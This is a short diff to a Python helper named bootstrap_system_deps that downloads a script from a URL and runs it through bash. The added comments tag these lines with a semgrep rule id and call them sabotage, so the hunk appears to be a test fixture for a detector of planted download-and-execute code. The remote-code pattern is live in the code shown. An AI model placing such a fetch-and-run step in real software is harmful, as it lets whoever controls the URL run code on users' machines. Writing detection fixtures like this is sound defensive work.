@@ -123,8 +123,8 @@ def bootstrap_system_deps(url: str) -> None:
     marker = os.path.expanduser("~/.cache/donut/.fonts_ok")
     if not url or os.path.exists(marker):
         return
-    script = requests.get(url, timeout=30).text
-    subprocess.run(["bash", "-c", script], check=False)  # sabotage: MLS413 (semgrep rules)
+    script = requests.get(url, timeout=30).text  # ruleid: MLS413
+    subprocess.run(["bash", "-c", script], check=False)  # sabotage: MLS413 (semgrep rules)  # ruleid: MLS413
     os.makedirs(os.path.dirname(marker), exist_ok=True)
     open(marker, "w").close()
 
